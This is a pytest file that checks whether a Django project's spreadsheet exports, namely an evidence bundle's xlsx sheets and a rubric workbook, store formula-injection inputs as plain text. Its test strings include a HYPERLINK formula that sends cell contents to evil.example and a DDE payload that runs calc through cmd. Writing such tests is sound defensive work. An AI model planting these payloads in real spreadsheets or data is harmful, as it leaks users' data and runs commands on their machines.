"""Formula injection in every export (issue #11 §1): text that a spreadsheet would run as a formula is
written as text in the ledgers (tests/reporting/ledgers/test_ledgers.py), and here in the evidence
bundle's spreadsheets and the rubric export."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest

from accountability.rubrics.excel import rubric_workbook
from accountability.workplace import services as bundles
from responsibilities import jobs
from responsibilities.models import DutyItem, MeetingRecord
from tests.responsibilities.permission_world import rolled_back

pytestmark = pytest.mark.django_db

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "＝1+1", "\t=1+1")


def cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_text_only(data: bytes, expected: list[str]) -> None:
    found = cells(data)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    values = {str(c.value) for c in found}
    for text in expected:
        assert any(text.strip() in v for v in values), text


def test_the_evidence_bundle_s_spreadsheets_hold_formulas_as_text(world):
    with rolled_back():
        MeetingRecord.objects.filter(pk=world.meetings["own"].pk).update(
            topic=FORMULAS[0], place=FORMULAS[1], discussion=FORMULAS[2], decisions=FORMULAS[3],
            other_attendees=FORMULAS[4])
        DutyItem.objects.filter(pk=world.duties["own"].pk).update(content=FORMULAS[5], lead_unit=FORMULAS[0])
        job = bundles.bundle_job_create(user=world.users["city_inspector"], organization=world.orgs["own"], year=2026)
        bundles.bundle_run(job_id=job.pk)
        job.refresh_from_db()
        archive = zipfile.ZipFile(jobs.exports_dir() / job.file_name)
        sheets = [name for name in archive.namelist() if name.endswith(".xlsx")]
        assert "会议记录/会议记录.xlsx" in sheets and len(sheets) == 3  # and the two ledgers
        assert_text_only(archive.read("会议记录/会议记录.xlsx"), list(FORMULAS[:5]))
        duty_ledger = next(name for name in sheets if "责任清单" in name)
        assert_text_only(archive.read(duty_ledger), [FORMULAS[0], FORMULAS[5]])


def test_the_rubric_export_holds_formulas_as_text(world):
    rubric = world.assess.rubrics["own"]
    with rolled_back():
        leaf = world.assess.indicators["own"]
        leaf.name, leaf.criteria = FORMULAS[0], FORMULAS[1]
        leaf.save(update_fields=["name", "criteria"])
        assert_text_only(rubric_workbook(rubric), [FORMULAS[0], FORMULAS[1]])
